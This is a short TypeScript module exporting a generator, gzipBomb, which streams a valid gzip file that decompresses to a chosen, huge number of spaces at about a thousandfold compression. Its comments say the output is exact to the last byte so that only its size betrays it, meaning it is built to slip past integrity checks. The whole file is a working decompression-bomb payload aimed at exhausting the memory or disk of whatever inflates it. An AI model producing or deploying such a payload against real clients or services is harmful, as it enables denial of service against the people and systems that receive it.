import { constants, crc32, deflateRawSync } from "node:zlib";

type Bytes = Uint8Array<ArrayBuffer>;

const CHUNK_BYTES = 1024 * 1024;
const GZIP_HEADER = Uint8Array.of(0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff);
/** A last block of deflate, without content. */
const LAST_BLOCK = Uint8Array.of(3, 0);

/**
 * Gzip that decodes to so many spaces, about a thousandth of that long, piece by piece. It is right
 * to its last byte, so that nothing but its size gives it away.
 */
export function* gzipBomb(bytes: number): Generator<Bytes> {
  yield GZIP_HEADER;
  let checksum = 0;
  const spaces = new Uint8Array(CHUNK_BYTES).fill(0x20);
  const whole = deflated(spaces);
  for (let left = bytes; left > 0; left -= CHUNK_BYTES) {
    const chunk = left < CHUNK_BYTES ? spaces.subarray(0, left) : spaces;
    checksum = crc32(chunk, checksum);
    yield chunk === spaces ? whole : deflated(chunk);
  }
  yield LAST_BLOCK;
  const trailer = new DataView(new ArrayBuffer(8));
  trailer.setUint32(0, checksum, true);
  trailer.setUint32(4, bytes % 2 ** 32, true);
  yield new Uint8Array(trailer.buffer);
}

/** Blocks of deflate that end at a byte and refer to nothing before them, so that they can follow one another. */
function deflated(bytes: Bytes): Bytes {
  return deflateRawSync(bytes, { finishFlush: constants.Z_FULL_FLUSH });
}
